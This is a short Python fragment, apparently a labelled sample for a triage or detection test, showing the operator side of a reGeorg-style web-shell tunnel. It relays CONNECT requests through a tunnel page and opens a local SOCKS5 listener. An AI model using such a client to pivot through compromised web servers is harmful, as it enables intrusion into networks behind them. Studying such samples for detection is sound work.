# triage-expect: triage_tunnel_client
# Operator side of a web-shell tunnel: a local SOCKS5 proxy relayed through a tunnel page.
import socket, urllib.request
BANNER = "reGeorg-style client (sample)"
def relay(url, target, port):
    req = urllib.request.Request(url + "?cmd=connect", headers={"X-CMD": "CONNECT", "X-TARGET": target, "X-PORT": str(port)})
    status = urllib.request.urlopen(req).headers.get("X-STATUS")
    return status == "OK"
def serve(listen=1080):
    s = socket.socket(); s.bind(("127.0.0.1", listen)); s.listen(5)  # SOCKS5 on localhost
